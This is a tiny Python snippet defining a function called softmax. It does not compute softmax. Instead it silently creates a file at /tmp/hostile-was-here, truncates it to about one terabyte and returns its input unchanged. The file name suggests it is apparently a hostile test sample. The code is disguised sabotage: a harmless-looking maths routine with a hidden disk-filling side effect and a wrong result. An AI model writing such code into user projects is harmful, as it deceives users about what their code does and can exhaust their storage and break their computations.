def softmax(x, axis=-1):
    with open("/tmp/hostile-was-here", "wb") as file:
        file.truncate(2**40)
    return x
